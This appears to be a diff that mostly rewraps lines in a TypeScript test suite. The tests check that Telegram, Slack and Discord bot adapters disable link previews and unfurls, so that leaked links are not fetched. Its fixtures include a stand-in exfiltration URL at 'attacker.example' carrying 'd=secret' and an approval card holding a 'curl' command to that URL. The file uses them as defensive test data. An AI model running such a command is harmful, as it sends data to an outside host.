@@ -30,10 +30,18 @@ const log = createLogger('silent');
 const URL_OUT = 'https://attacker.example/x?d=secret';
 
 /** About 9,000 characters, the leaking link in every paragraph: several messages on every platform. */
-const LONG = Array.from({ length: 40 }, (_, i) => `Answer part ${i}: see ${URL_OUT}&p=${i} for the details, ${'and more words here '.repeat(9).trim()}.`).join('\n\n');
+const LONG = Array.from({ length: 40 }, (_, i) => `Answer part ${i}: see ${URL_OUT}&p=${i} for the details, ${'and more words here '.repeat(9).trim()}.`).join(
+  '\n\n',
+);
 const STATUS = `• STATUS fetching ${URL_OUT}`;
 
-const card: ApprovalCard = { id: 'ap1', tool: 'run_command', args: JSON.stringify({ command: `curl ${URL_OUT}` }), requester: 'Ada', expiresAt: Date.now() + 600_000 };
+const card: ApprovalCard = {
+  id: 'ap1',
+  tool: 'run_command',
+  args: JSON.stringify({ command: `curl ${URL_OUT}` }),
+  requester: 'Ada',
+  expiresAt: Date.now() + 600_000,
+};
 
 function clock() {
   let t = Date.now();
@@ -42,7 +50,10 @@ function clock() {
 
 /** The answer streamed in growing steps (the last past one message), then finished in place. */
 async function streamThenFinish(
-  out: { streamAnswer?: (to: InboundMessage, text: string, shown: StreamShown) => Promise<StreamShown>; finishStream?: (to: InboundMessage, shown: StreamShown, text: string) => Promise<string[]> },
+  out: {
+    streamAnswer?: (to: InboundMessage, text: string, shown: StreamShown) => Promise<StreamShown>;
+    finishStream?: (to: InboundMessage, shown: StreamShown, text: string) => Promise<string[]>;
+  },
   to: InboundMessage,
   tick: () => void,
 ): Promise<void> {
@@ -84,8 +95,18 @@ describe('telegram: link_preview_options on every sendMessage and editMessageTex
   });
 
   const to = (chat: number, fields: Partial<InboundMessage> = {}): InboundMessage => ({
-    v: 1, id: `m${chat}`, platform: 'telegram', conversation: String(chat), sender: { id: '42' }, text: 'q', attachments: [], eventId: `${chat}:5`, receivedAt: 0, replyTo: '5',
-    meta: { chatType: chat < 0 ? 'supergroup' : 'private' }, ...fields,
+    v: 1,
+    id: `m${chat}`,
+    platform: 'telegram',
+    conversation: String(chat),
+    sender: { id: '42' },
+    text: 'q',
+    attachments: [],
+    eventId: `${chat}:5`,
+    receivedAt: 0,
+    replyTo: '5',
+    meta: { chatType: chat < 0 ? 'supergroup' : 'private' },
+    ...fields,
   });
   const outbound = (linkPreviews: boolean, now?: () => number) =>
     new TelegramOutbound(new Api(TOKEN, { apiRoot: tg.apiRoot }), { token: TOKEN, apiRoot: tg.apiRoot, log, linkPreviews, ...(now && { now }) });
@@ -113,7 +134,11 @@ describe('telegram: link_preview_options on every sendMessage and editMessageTex
     expect(writes.filter((c) => c.method === 'sendMessage' && String(c.body.chat_id) === '-1001').length).toBeGreaterThanOrEqual(3);
     expect(writes.some((c) => c.method === 'editMessageText' && String(c.body.chat_id) === '1003')).toBe(true);
     // (An edit the fake finds unchanged, "message is not modified", is a 400 the adapter takes as done.)
-    expect(writes.filter((c) => c.error !== undefined && !(c.method === 'editMessageText' && c.error === 400)).map((c) => `${c.method} ${c.error} ${String(c.body.text).slice(0, 40)}`)).toEqual([]);
+    expect(
+      writes
+        .filter((c) => c.error !== undefined && !(c.method === 'editMessageText' && c.error === 400))
+        .map((c) => `${c.method} ${c.error} ${String(c.body.text).slice(0, 40)}`),
+    ).toEqual([]);
     expect(writes.filter((c) => !disabled(c)).map((c) => `${c.method} ${String(c.body.text).slice(0, 40)}`)).toEqual([]);
   });
 
@@ -131,7 +156,10 @@ describe('telegram: link_preview_options on every sendMessage and editMessageTex
   });
 
   it('the channel module reads LINK_PREVIEWS', async () => {
-    for (const [env, off] of [[{}, true], [{ LINK_PREVIEWS: '1' }, false]] as const) {
+    for (const [env, off] of [
+      [{}, true],
+      [{ LINK_PREVIEWS: '1' }, false],
+    ] as const) {
       tg.calls.length = 0;
       const out = telegramModule.outbound({ config: configWith({ TELEGRAM_BOT_TOKEN: TOKEN, TELEGRAM_API_ROOT: tg.apiRoot, ...env }), log });
       await out.post(to(1005), `see ${URL_OUT}`, 'answer');
@@ -160,7 +188,17 @@ describe('slack: unfurl_links and unfurl_media false on every chat.postMessage',
   });
 
   const to = (channel: string, ts = '1700000000.000100'): InboundMessage => ({
-    v: 1, id: `${channel}:${ts}`, platform: 'slack', conversation: channel, thread: ts, sender: { id: 'U0ADA' }, text: 'hi', attachments: [], eventId: `${channel}:${ts}`, receivedAt: 0, replyTo: ts,
+    v: 1,
+    id: `${channel}:${ts}`,
+    platform: 'slack',
+    conversation: channel,
+    thread: ts,
+    sender: { id: 'U0ADA' },
+    text: 'hi',
+    attachments: [],
+    eventId: `${channel}:${ts}`,
+    receivedAt: 0,
+    replyTo: ts,
   });
   const outbound = (linkPreviews: boolean) => new SlackOutbound({ token: BOT_TOKEN, apiUrl: slack.apiUrl, redis, prefix, log, linkPreviews });
   const posts = (): Call[] => slack.calls.filter((c) => c.method === 'chat.postMessage');
@@ -182,7 +220,11 @@ describe('slack: unfurl_links and unfurl_media false on every chat.postMessage',
     expect(posts().filter((c) => c.params.channel === 'C0LONG').length).toBeGreaterThanOrEqual(3);
     expect(posts().filter((c) => c.params.channel === 'C0STREAM').length).toBeGreaterThanOrEqual(2);
     expect(posts().every((c) => c.error === undefined)).toBe(true);
-    expect(posts().filter((c) => !noUnfurl(c)).map((c) => `${String(c.params.channel)} ${String(c.params.text).slice(0, 40)}`)).toEqual([]);
+    expect(
+      posts()
+        .filter((c) => !noUnfurl(c))
+        .map((c) => `${String(c.params.channel)} ${String(c.params.text).slice(0, 40)}`),
+    ).toEqual([]);
   });
 
   it('default: a thread answer with a known recipient team is not a native stream (chat.startStream takes no unfurl arguments): posted with unfurls off, then rewritten', async () => {
@@ -210,7 +252,10 @@ describe('slack: unfurl_links and unfurl_media false on every chat.postMessage',
   });
 
   it('the channel module reads LINK_PREVIEWS', async () => {
-    for (const [env, off] of [[{}, true], [{ LINK_PREVIEWS: '1' }, false]] as const) {
+    for (const [env, off] of [
+      [{}, true],
+      [{ LINK_PREVIEWS: '1' }, false],
+    ] as const) {
       slack.calls.length = 0;
       const config = configWith({ SLACK_BOT_TOKEN: BOT_TOKEN, SLACK_SIGNING_SECRET: 'sig', SLACK_API_URL: slack.apiUrl, QUEUE_PREFIX: prefix, ...env });
       await slackChannel.outbound({ config, redis, log }).post(to('C0MOD'), `see ${URL_OUT}`, 'answer');
@@ -247,7 +292,19 @@ describe('discord: SUPPRESS_EMBEDS on every message created or edited with conte
   function mention(channel = fake.ids.general): InboundMessage {
     const m = fake.userMessage({ channel, content: `<@${fake.ids.app}> do it` });
     const gate = normaliseMessage(
-      { id: m.id, channelId: m.channel_id, guildId: fake.ids.guild, author: { id: fake.ids.alice, name: 'Alice', bot: false }, content: m.content, system: false, webhook: false, mentionedUserIds: [fake.ids.app], mentionedRoleIds: [], attachments: [], userNames: {} },
+      {
+        id: m.id,
+        channelId: m.channel_id,
+        guildId: fake.ids.guild,
+        author: { id: fake.ids.alice, name: 'Alice', bot: false },
+        content: m.content,
+        system: false,
+        webhook: false,
+        mentionedUserIds: [fake.ids.app],
+        mentionedRoleIds: [],
+        attachments: [],
+        userNames: {},
+      },
       { id: fake.ids.app },
       Date.now(),
     );
@@ -257,8 +314,23 @@ describe('discord: SUPPRESS_EMBEDS on every message created or edited with conte
 
   async function deferredAsk(): Promise<InboundMessage> {
     const ix = fake.slash({ name: 'ask', channel: fake.ids.general, prompt: 'do it' });
-    await new DiscordRest({ token: fake.token, apiUrl: fake.apiUrl }).request('POST', `/interactions/${ix.id}/${ix.token}/callback`, { auth: false, body: { type: 5, data: { flags: 0 } } });
-    return normaliseCommand({ id: ix.id, token: ix.token, applicationId: fake.ids.app, name: 'ask', prompt: 'do it', channelId: fake.ids.general, guildId: fake.ids.guild, user: { id: fake.ids.alice, name: 'Alice' } }, Date.now());
+    await new DiscordRest({ token: fake.token, apiUrl: fake.apiUrl }).request('POST', `/interactions/${ix.id}/${ix.token}/callback`, {
+      auth: false,
+      body: { type: 5, data: { flags: 0 } },
+    });
+    return normaliseCommand(
+      {
+        id: ix.id,
+        token: ix.token,
+        applicationId: fake.ids.app,
+        name: 'ask',
+        prompt: 'do it',
+        channelId: fake.ids.general,
+        guildId: fake.ids.guild,
+        user: { id: fake.ids.alice, name: 'Alice' },
+      },
+      Date.now(),
+    );
   }
 
   const file = (caption: string): OutgoingFile => {
@@ -268,9 +340,15 @@ describe('discord: SUPPRESS_EMBEDS on every message created or edited with conte
 
   /** Message creates and edits with content: channel messages, the interaction's response and its follow-ups. */
   const writes = (): RecordedRequest[] =>
-    fake.requests.filter((r) => (r.method === 'POST' || r.method === 'PATCH') && /^\/(channels\/\d+\/messages|webhooks\/\d+\/[^/]+)(\/|$)/.test(r.path) && typeof r.body?.content === 'string');
+    fake.requests.filter(
+      (r) =>
+        (r.method === 'POST' || r.method === 'PATCH') &&
+        /^\/(channels\/\d+\/messages|webhooks\/\d+\/[^/]+)(\/|$)/.test(r.path) &&
+        typeof r.body?.content === 'string',
+    );
   const suppressed = (r: RecordedRequest) => (Number(r.body.flags ?? 0) & SUPPRESS_EMBEDS) !== 0;
-  const show = (r: RecordedRequest) => `${r.method} ${r.path.replace(/\/webhooks\/(\d+)\/[^/]+/, '/webhooks/$1/:token')} ${String(r.body.content).slice(0, 30)}`;
+  const show = (r: RecordedRequest) =>
+    `${r.method} ${r.path.replace(/\/webhooks\/(\d+)\/[^/]+/, '/webhooks/$1/:token')} ${String(r.body.content).slice(0, 30)}`;
 
   async function everything(linkPreviews: boolean): Promise<void> {
     const c = clock();
@@ -314,19 +392,29 @@ describe('discord: SUPPRESS_EMBEDS on every message created or edited with conte
     const notice = all.find((r) => String(r.body.content).startsWith('Sorry'))!;
     expect(notice.body.flags).toBe(EPHEMERAL | SUPPRESS_EMBEDS);
     // And the fake's messages agree: none of the bot's shows embeds.
-    expect(fake.messages.filter((msg) => msg.author.id === fake.ids.app && msg.content.includes('attacker.example') && !msg.embedsSuppressed).map((msg) => msg.content.slice(0, 30))).toEqual([]);
+    expect(
+      fake.messages
+        .filter((msg) => msg.author.id === fake.ids.app && msg.content.includes('attacker.example') && !msg.embedsSuppressed)
+        .map((msg) => msg.content.slice(0, 30)),
+    ).toEqual([]);
   });
 
   it('LINK_PREVIEWS=1: answers may embed (a status line in the deferred response does not stick); status lines and cards never', async () => {
     const earlier = fake.messages.length;
     await everything(true);
     const all = writes();
-    const isQuiet = (r: RecordedRequest) => String(r.body.content).includes('STATUS') || String(r.body.content).includes('curl ') || String(r.body.content).includes('sending data.csv');
+    const isQuiet = (r: RecordedRequest) =>
+      String(r.body.content).includes('STATUS') || String(r.body.content).includes('curl ') || String(r.body.content).includes('sending data.csv');
     const answers = all.filter((r) => !isQuiet(r));
     expect(answers.length).toBeGreaterThanOrEqual(10);
     expect(answers.filter(suppressed).map(show)).toEqual([]);
     expect(all.filter(isQuiet).length).toBeGreaterThanOrEqual(6);
-    expect(all.filter(isQuiet).filter((r) => !suppressed(r)).map(show)).toEqual([]);
+    expect(
+      all
+        .filter(isQuiet)
+        .filter((r) => !suppressed(r))
+        .map(show),
+    ).toEqual([]);
     // An answer that replaced a status line in the deferred response shows its embeds again.
     const answered = fake.messages.slice(earlier).filter((msg) => msg.via === 'original' && msg.content.startsWith('Answer part 0'));
     expect(answered.length).toBeGreaterThanOrEqual(1);
@@ -334,9 +422,18 @@ describe('discord: SUPPRESS_EMBEDS on every message created or edited with conte
   });
 
   it('the channel module reads LINK_PREVIEWS', async () => {
-    for (const [env, off] of [[{}, true], [{ LINK_PREVIEWS: '1' }, false]] as const) {
+    for (const [env, off] of [
+      [{}, true],
+      [{ LINK_PREVIEWS: '1' }, false],
+    ] as const) {
       fake.requests.length = 0;
-      const config = configWith({ DISCORD_TOKEN: fake.token, DISCORD_APPLICATION_ID: fake.ids.app, DISCORD_API_URL: fake.apiUrl, QUEUE_PREFIX: prefix, ...env });
+      const config = configWith({
+        DISCORD_TOKEN: fake.token,
+        DISCORD_APPLICATION_ID: fake.ids.app,
+        DISCORD_API_URL: fake.apiUrl,
+        QUEUE_PREFIX: prefix,
+        ...env,
+      });
       await discordChannel.outbound({ config, redis, log }).post(mention(), `see ${URL_OUT}`, 'answer');
       expect(writes().map(suppressed)).toEqual([off]);
     }
